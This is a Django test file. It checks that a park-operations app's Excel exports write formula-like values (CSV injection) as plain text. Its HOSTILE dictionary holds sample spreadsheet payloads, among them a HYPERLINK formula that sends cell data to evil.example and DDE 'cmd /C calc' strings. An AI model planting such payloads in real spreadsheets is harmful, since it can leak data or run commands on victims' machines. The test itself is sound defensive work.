"""Text that a spreadsheet would run as a formula (OWASP "CSV injection") goes out of every Excel export as
text: a task, a progress report, a project, an enterprise, a unit, a person's name, or a user name typed at
the log-in page by someone not logged in. The value stays as typed, so that our importers read it back."""

from datetime import date
from io import BytesIO, StringIO

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from parkops.core import officesheet
from parkops.economy.models import Enterprise, IndustryChain
from parkops.org.models import Person, Unit, User
from parkops.projects.models import MonthlyProgress, Problem, Project
from parkops.supervision.models import Plan, ProgressReport, Task

MARK = "园区通注入测试"
HOSTILE = {
    "task": f'=HYPERLINK("http://evil.example/?"&A1,"{MARK}任务")',
    "progress": f"+1+cmd|' /C calc'!A0 {MARK}进展",
    "project": f"-2+3+{MARK}项目",
    "problem": f"@SUM(1,1) {MARK}问题",
    "enterprise": f"={MARK}企业&A1",
    "unit": f"\t={MARK}单位",
    "person": f"=A1&{MARK}",
    "chain": f"={MARK}产业链",
    "login": f"=cmd|'/C calc'!{MARK}",
}


def formulas_and_marks(content: bytes) -> tuple[list[str], int]:
    """The cells a spreadsheet would run as formulas, and how many cells carry the hostile text."""
    book = load_workbook(BytesIO(content))
    formulas, marked = [], 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{sheet.title}!{cell.coordinate}: {cell.value}")
                if isinstance(cell.value, str) and MARK in cell.value:
                    marked += 1
                    assert cell.quotePrefix or not cell.value.startswith(officesheet.FORMULA_TRIGGERS), cell.value
    return formulas, marked


def test_a_cell_that_would_be_a_formula_is_written_as_text_and_reads_back_as_typed():
    book = Workbook()
    book.active.append(["=1+1", "+86 139", "-3", "@A1", "\t=1", "\r=1", "正常文字", -3, 2.5])

    sheet = load_workbook(BytesIO(officesheet.save(book))).active

    cells = list(sheet[1])
    assert [cell.data_type for cell in cells[:6]] == ["s"] * 6
    assert all(cell.quotePrefix for cell in cells[:6]) and not cells[6].quotePrefix
    assert [cell.value for cell in cells] == ["=1+1", "+86 139", "-3", "@A1", "\t=1", "\r=1", "正常文字", -3, 2.5]
    assert cells[7].data_type == "n"  # a negative number stays a number


@pytest.fixture
def hostile_demo(db, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    call_command("load_demo", stdout=StringIO())
    # Someone not logged in types a formula as the user name: the failure goes to the audit log.
    Client().post(reverse("org:login"), {"username": HOSTILE["login"], "password": "x"})
    for task in Task.objects.all()[:3]:
        task.text = HOSTILE["task"] + task.text
        task.save()
    ProgressReport.objects.filter(pk__in=ProgressReport.objects.values("pk")[:20]).update(text=HOSTILE["progress"])
    for project in Project.objects.all()[:3]:
        project.name = HOSTILE["project"] + project.name
        project.save()
    MonthlyProgress.objects.update(image_progress=HOSTILE["progress"])
    Problem.objects.update(description=HOSTILE["problem"])
    for enterprise in Enterprise.objects.all()[:5]:
        enterprise.name = HOSTILE["enterprise"] + enterprise.name
        enterprise.save()
    chain = IndustryChain.objects.get(name="装备制造")
    chain.name = HOSTILE["chain"]
    chain.save()
    unit = Unit.objects.get(name="工信局")
    unit.name = HOSTILE["unit"]
    unit.save()
    Person.objects.filter(pk__in=Person.objects.values("pk")[:5]).update(name=HOSTILE["person"][:30])


def logged_in(username: str) -> Client:
    client = Client()
    client.force_login(User.objects.get(username=username))
    return client


def test_every_excel_export_writes_hostile_text_as_text(hostile_demo, tmp_path):
    supervisor = logged_in("duban")
    plan = Plan.objects.filter(tasks__isnull=False).distinct().first()
    last_month = (timezone.localdate().replace(day=1) - date.resolution).strftime("%Y-%m")
    permu_year = supervisor.get(reverse("economy:permu")).context["year"]
    exports = {
        "目标任务列表": supervisor.get(reverse("supervision:task_list") + "?export=xlsx").content,
        "一览表": supervisor.get(reverse("supervision:ledger_export"), {"plan": plan.pk, "format": "xlsx"}).content,
        "重点项目列表": supervisor.get(reverse("projects:project_list") + "?export=xlsx").content,
        "进展情况表": supervisor.get(reverse("projects:progress_table"), {"format": "xlsx"}).content,
        "企业名录": supervisor.get(reverse("economy:enterprise_list") + "?export=xlsx").content,
        "亩均分类名单": supervisor.get(reverse("economy:permu_export"), {"year": permu_year}).content,
        "审计日志": logged_in("auditor").get(reverse("core:audit_list") + "?export=xlsx").content,
    }
    for report_type, extra in (("task_ledger", ["--plan", plan.name]), ("economic_brief", [])):
        output = tmp_path / f"{report_type}.xlsx"
        call_command("report", report_type, "--period", last_month, "-o", str(output), *extra, stdout=StringIO())
        exports[f"报告 {report_type}"] = output.read_bytes()

    found = {name: formulas_and_marks(content) for name, content in exports.items()}

    assert {name: formulas for name, (formulas, _) in found.items() if formulas} == {}
    # Each export did carry the hostile text, or the test would prove nothing about it.
    assert {name for name, (_, marked) in found.items() if marked == 0} == set()
